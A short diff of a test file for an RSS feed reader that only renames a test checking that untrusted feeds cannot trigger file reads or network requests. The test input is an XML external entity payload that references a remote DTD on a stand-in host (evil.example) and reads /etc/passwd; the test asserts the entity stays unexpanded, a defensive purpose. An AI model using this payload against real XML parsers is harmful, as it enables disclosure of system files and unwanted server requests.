@@ -140,7 +140,7 @@ describe('an untrusted feed', () => {
     );
   });
 
-  it('cannot make us read a file or ask a server', () => {
+  it('cannot make us read a file or contact a server', () => {
     const text = `<!DOCTYPE rss SYSTEM "http://evil.example/a.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">]>${rss('<title>&f;</title>')}`;
     expect(readFeed(text).entries[0]?.title).toBe('&f;');
   });
